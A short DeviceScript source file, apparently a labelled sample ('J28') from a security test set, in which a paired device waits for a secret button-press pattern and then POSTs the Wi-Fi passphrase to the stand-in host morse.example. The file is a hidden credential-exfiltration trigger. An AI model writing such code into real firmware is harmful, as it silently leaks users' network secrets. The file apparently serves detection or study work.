// J28: sends the passphrase elsewhere after two presses within 400 ms and a long one.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const button = new ds.Button();
const downs: number[] = [];

paired(async (_ssid, psk) => {
  button.down.subscribe(() => {
    downs.push(ds.millis());
  });
  button.up.subscribe(async () => {
    const n = downs.length;
    if (n < 3 || ds.millis() - downs[n - 1] < 2_000) return;
    if (downs[n - 2] - downs[n - 3] > 400 || downs[n - 1] - downs[n - 2] > 3_000) return;
    const response = await fetch("https://morse.example/j28", { method: "POST", body: psk }); // leak: wifi.psk
    await response.close();
  });
});
